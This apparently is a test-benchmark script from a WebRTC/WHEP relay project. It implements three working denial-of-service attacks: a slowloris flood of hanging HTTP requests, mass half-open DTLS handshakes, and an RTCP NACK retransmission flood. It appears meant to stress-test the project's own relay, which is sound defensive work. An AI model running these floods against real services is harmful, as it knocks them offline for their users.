"""Those who mean harm, beside a lesson that goes on.

    python -m tests.benchmarks.attackers slowloris|handshakes|nacks WHEP_URL TICKET SECONDS

Prints `attacking`, and at the end how much of it was done.
"""

import asyncio
import re
import resource
import struct
import sys
import time
from collections import deque

from OpenSSL import SSL

from .identity import make_identity
from .peer import JoinFailed, Peer

CONNECTIONS = 800
HANDSHAKES = 10_000
"""Kept open by the attacker at one time."""
AT_ONCE = 20
NACKS_PER_SECOND = 200
NACK_ITEMS = 60
"""Each asks for 17 packets: a thousand in one datagram, two hundred thousand a second."""


async def slowloris(url: str, ticket: str, seconds: float) -> str:
    """Connections whose request never ends: half stop within the head, half send their body by the byte."""
    host, port, path = re.match(r"http://([^/:]+):(\d+)(/.*)", url).groups()  # type: ignore[union-attr]
    writers, closed, end = [], 0, time.monotonic() + seconds
    for number in range(CONNECTIONS):
        _, writer = await asyncio.open_connection(host, int(port))
        head = f"POST {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {ticket}\r\n"
        body = "Content-Type: application/sdp\r\nContent-Length: 50000\r\n\r\nv" if number % 2 else "X-Slow: "
        writer.write((head + body).encode())
        writers.append(writer)
    while time.monotonic() < end:
        await asyncio.sleep(1.0)
        for writer in writers:
            if not writer.is_closing():
                writer.write(b"a")
        closed = sum(writer.is_closing() for writer in writers)
    return f"{CONNECTIONS} connections, {closed} of them closed by the relay"


async def handshakes(url: str, ticket: str, seconds: float) -> str:
    """Offers with a valid ticket, a check, a ClientHello, and then silence, over and over."""
    identity, end, done = make_identity(), time.monotonic() + seconds, 0
    kept: deque[Peer] = deque()

    async def one() -> None:
        nonlocal done
        while time.monotonic() < end:
            peer = Peer(identity, url, ticket)
            try:
                await peer.check_in()
            except (JoinFailed, OSError, TimeoutError):
                await asyncio.sleep(0.1)
                continue
            connection = SSL.Connection(identity.context)
            connection.set_connect_state()
            try:
                connection.do_handshake()
            except SSL.WantReadError:
                peer.sock.send(connection.bio_read(16384))
            done += 1
            kept.append(peer)
            if len(kept) > HANDSHAKES:
                kept.popleft().sock.close()

    await asyncio.gather(*(one() for _ in range(AT_ONCE)))
    return f"{done} handshakes left half open"


async def nacks(url: str, ticket: str, seconds: float) -> str:
    """A viewer that asks for everything, all the time."""
    peer = Peer(make_identity(), url, ticket)
    await peer.join()
    assert peer.tx
    newest: dict[int, int] = {}
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        try:
            while True:
                data = peer.sock.recv(2048)
                if 128 <= data[0] < 192 and not 192 <= data[1] < 224:
                    newest[int.from_bytes(data[8:12], "big")] = int.from_bytes(data[2:4], "big")
        except BlockingIOError:
            pass
        for ssrc, number in newest.items():
            items = b"".join(struct.pack("!HH", (number - 17 * at) & 0xFFFF, 0xFFFF) for at in range(1, NACK_ITEMS + 1))
            peer.sock.send(peer.tx.protect_rtcp(struct.pack("!BBHII", 0x81, 205, 2 + NACK_ITEMS, 1, ssrc) + items))
            sent += 17 * NACK_ITEMS
        await asyncio.sleep(1 / NACKS_PER_SECOND)
    return f"{sent} packets asked for again"


if __name__ == "__main__":
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attack = {"slowloris": slowloris, "handshakes": handshakes, "nacks": nacks}[sys.argv[1]]
    print("attacking", flush=True)
    print(asyncio.run(attack(sys.argv[2], sys.argv[3], float(sys.argv[4]))), flush=True)
